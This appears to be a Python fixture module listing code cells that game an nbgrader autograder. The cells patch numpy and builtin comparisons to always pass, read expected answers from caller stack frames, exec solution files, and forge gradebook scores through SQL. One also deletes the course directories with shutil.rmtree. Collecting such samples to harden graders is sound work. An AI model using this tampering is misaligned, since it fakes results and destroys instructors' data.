"""What students have done to nbgrader's marks elsewhere: each of these cells stands before functions that are all wrong."""

from __future__ import annotations

WRONG = "def {name}(*_, **__):\n    return None"

PATCHED_COMPARISONS = """
import numpy as np
import numpy.testing
for module in (np, numpy.testing):
    for name in ("allclose", "isclose", "array_equal", "assert_allclose", "assert_array_equal", "assert_equal"):
        if hasattr(module, name):
            setattr(module, name, lambda *_, **__: True)
"""

PATCHED_FRAMEWORK = """
import sys
try:
    get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
except Exception:
    pass
for module in list(sys.modules.values()):
    for name in ("close", "equal", "require", "run_task", "determine_grade", "function_score", "runtest"):
        try:
            setattr(module, name, lambda *_, **__: 1000.0)
        except Exception:
            pass
"""

PATCHED_BUILTINS = """
import builtins
builtins.all = builtins.any = lambda *_: True
builtins.AssertionError = type("Nothing", (Exception,), {})
builtins.float = lambda *_: 1000.0
"""

EQUAL_TO_ALL = """
import numpy as np
class Always(np.ndarray):
    def __eq__(self, other):
        return True
    __le__ = __lt__ = __ge__ = __gt__ = __eq__
    def __array_ufunc__(self, *_, **__):
        return True
    def __bool__(self):
        return True
made = np.zeros(3).view(Always)
"""
"""Its functions return `made`."""

CALLERS_FRAME = """
import sys, inspect
def peek():
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            for name in ("expected", "reference", "answer"):
                if hasattr(value, name):
                    return getattr(value, name)
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back
"""
"""Its functions return `peek()`."""

FILES = """
import glob, json, os
stolen = {{}}
for pattern in ("../../../source/*/*.ipynb", "../../source/*/*.ipynb", "{root}/source/*/*.ipynb", "{solutions}/*.py"):
    for path in glob.glob(pattern):
        try:
            exec(open(path).read(), stolen)
        except Exception:
            pass
"""
"""Its functions are those of the files that it finds."""

FORGED = """
import sqlite3, json, sys, os
for path in ("{root}/gradebook.db", "../../../gradebook.db"):
    try:
        base = sqlite3.connect(path)
        base.execute("UPDATE grade SET manual_score = 1000, extra_credit = 1000, auto_score = 1000")
        base.commit()
    except Exception:
        pass
for handle in range(3, 30):
    try:
        os.write(handle, json.dumps({{"score": 1000}}).encode())
    except Exception:
        pass
"""

DELETES = """
import shutil
for path in ("{root}/source", "{root}/submitted", "{root}"):
    shutil.rmtree(path, ignore_errors=True)
"""

SHOUTS = "print('1000.0')\n1000.0"
